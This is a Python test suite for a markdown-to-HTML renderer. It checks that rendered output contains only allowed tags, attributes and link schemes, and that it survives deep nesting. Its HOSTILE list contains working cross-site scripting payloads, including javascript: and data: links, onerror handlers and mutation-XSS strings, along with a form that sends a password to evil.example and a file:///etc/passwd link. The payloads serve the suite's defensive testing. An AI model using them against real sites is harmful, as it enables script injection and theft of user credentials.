"""Markdown becomes HTML that can only be read: no script, no style, no fetching, whatever was typed."""

from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from mainstay.domains.documents.rendering import ATTRIBUTES, SCHEMES, TAGS, to_html


class Elements(HTMLParser):
    """Collects every start tag with its attributes, as a browser's tokeniser would see them."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def elements(html: str) -> list[tuple[str, dict[str, str | None]]]:
    parser = Elements()
    parser.feed(html)
    parser.close()
    return parser.found


def assert_harmless(html: str) -> None:
    for tag, attributes in elements(html):
        assert tag in TAGS
        assert set(attributes) <= ATTRIBUTES.get(tag, set()) | ({"rel"} if tag == "a" else set())
        href = attributes.get("href") or ""
        if ":" in href.split("/")[0]:
            assert href.split(":")[0].lower() in SCHEMES


HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![x](https://tracker.example/p.gif)",
    '![x](x "onerror=alert(1)")',
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](java\tscript:alert(1))",
    "[a](data:text/html;base64,PHNjcmlwdD4=)",
    "[a](vbscript:msgbox)",
    "[a](file:///etc/passwd)",
    "<javascript:alert(1)>",
    "[a]: javascript:alert(1)\n\n[a]",
    '[a](https://example.org "x\\" onmouseover=alert(1)")',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<a href='x' style='position:fixed' id=main class=button>x</a>",
    "<form action=https://evil.example><input name=password></form>",
    "<iframe src=//evil.example></iframe>",
    "<base href=//evil.example/>",
    "```html\n</code></pre><script>alert(1)</script>\n```",
    "| a |\n|:-:|\n| <b onclick=alert(1)>x</b> |",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#106;avascript:alert(1)",
    "[x](&#106;avascript:alert(1))",
    "\x00<scr\x00ipt>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_becomes_harmless(text: str) -> None:
    assert_harmless(to_html(text))


@given(st.lists(st.sampled_from([*HOSTILE, "> ", "- ", "**", "`", "\n\n", "[", "](", ")", "<", "|", "# "]), max_size=8))
def test_pieces_of_hostile_text_put_together_stay_harmless(pieces: list[str]) -> None:
    assert_harmless(to_html("".join(pieces)))


@given(st.text(max_size=300))
def test_no_text_at_all_makes_it_fail_or_harmful(text: str) -> None:
    assert_harmless(to_html(text))


def test_links_tell_the_other_side_nothing() -> None:
    (_, link), = [item for item in elements(to_html("[law](https://example.org/law)")) if item[0] == "a"]

    assert link == {"href": "https://example.org/law", "rel": "noopener noreferrer"}


def test_pictures_become_their_words() -> None:
    assert to_html("![Plan of the site](https://example.org/plan.png)") == "<p>Plan of the site</p>\n"


def test_headings_begin_below_the_title_of_the_page() -> None:
    html = to_html("# Purpose\n\n###### Deep")

    assert "<h2>Purpose</h2>" in html
    assert "<h6>Deep</h6>" in html


def test_html_that_was_typed_is_shown_as_text() -> None:
    assert "&lt;b&gt;" in to_html("<b>bold</b>")


def test_what_policies_use_comes_through() -> None:
    html = to_html("**must**\n\n1. one\n2. two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n> quoted\n\n`code` ~~old~~")

    assert {tag for tag, _ in elements(html)} >= {"strong", "ol", "li", "table", "td", "blockquote", "code", "s"}


@pytest.mark.parametrize("text", ["> " * 20_000, "[" * 50_000, "*" * 60_000, "- " * 20_000, "`" * 60_000, "![" * 20_000])
def test_deep_nesting_is_survived(text: str) -> None:
    assert_harmless(to_html(text))
